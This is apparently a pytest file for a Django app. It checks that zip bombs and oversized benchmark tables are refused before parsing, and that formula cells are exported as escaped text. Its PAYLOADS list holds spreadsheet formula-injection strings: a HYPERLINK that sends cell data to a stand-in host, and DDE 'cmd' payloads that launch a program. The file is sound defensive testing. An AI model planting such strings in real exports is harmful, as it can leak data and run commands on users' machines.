"""Hostile benchmark tables: a zip bomb and too many rows are refused before parsing, on the page and the API,
with the limit named; text a spreadsheet would run as a formula is exported as text and imports back
unchanged."""

from __future__ import annotations

import csv
import dataclasses
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from discretion.models import Benchmark
from discretion.tables import read_table
from enforcement.models import AuditEvent
from enforcement.spreadsheets import MAX_ROWS, MAX_UPLOAD_BYTES
from tests.hostile_files import csv_rows, xlsx_bomb

from .conftest import first_violation_entry, publish_table, stall_tiers

pytestmark = pytest.mark.django_db

HEADER = ["item_code", "level"]


@pytest.fixture
def parser_calls(monkeypatch) -> list[str]:
    calls: list[str] = []
    real = openpyxl.load_workbook

    def load(*args, **kwargs):
        calls.append("load_workbook")
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", load)
    return calls


@pytest.mark.parametrize(
    ("name", "build", "words"),
    [
        ("bomb.xlsx", lambda: xlsx_bomb(300, header=HEADER), "more than the 50 MB allowed"),
        ("long.csv", lambda: csv_rows(MAX_ROWS, ",".join(HEADER)), "more than 20,000 rows"),
        ("big.csv", lambda: b"item_code,level\n" + b"," * MAX_UPLOAD_BYTES, "larger than 10 MB"),
    ],
)
def test_hostile_tables_are_refused_before_parsing_on_page_and_api(
    cast, client_for, item, parser_calls, name, build, words
):
    data = build()
    before = (Benchmark.objects.count(), AuditEvent.objects.count())
    client = client_for(cast.admin)
    page = client.post(reverse("discretion-import") + "?lang=en", {"file": SimpleUploadedFile(name, data)})
    assert page.status_code == 400 and words in page.content.decode()
    api = client.post(reverse("api-discretion-import") + "?lang=en", {"file": SimpleUploadedFile(name, data)})
    assert api.status_code == 400 and words in str(api.json()), api.content[:300]
    assert parser_calls == []
    assert (Benchmark.objects.count(), AuditEvent.objects.count()) == before


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_in_a_benchmark_come_back_as_text_and_round_trip(cast, client_for, item, fmt):
    tiers = [dataclasses.replace(t, conditions_text=p) for t, p in zip(stall_tiers(), PAYLOADS, strict=True)]
    entry = dataclasses.replace(first_violation_entry(), measures="=1+1", legal_basis="@cmd")
    publish_table(cast.admin, item, tiers, [entry])
    response = client_for(cast.admin).get(reverse("api-discretion-export"), {"file": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
        for payload in [*PAYLOADS, "=1+1", "@cmd"]:
            assert "'" + payload in cells, payload
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    else:
        sheet_cells = [
            cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row
        ]
        for payload in [*PAYLOADS, "=1+1", "@cmd"]:
            assert [c.data_type for c in sheet_cells if c.value == payload] == ["s"], payload
        assert not [c for c in sheet_cells if c.data_type == "f"]
    rows = read_table(response.content, f"t.{fmt}")
    assert [values["conditions_text"] for _n, values in rows][:4] == PAYLOADS
    assert (rows[4][1]["measures"], rows[4][1]["legal_basis"]) == ("=1+1", "@cmd")
    again = client_for(cast.admin).post(
        reverse("api-discretion-import"),
        {"file": SimpleUploadedFile(f"t.{fmt}", response.content), "dry_run": "true"},
    )
    assert again.status_code == 200 and again.json()["ok"], again.content[:500]
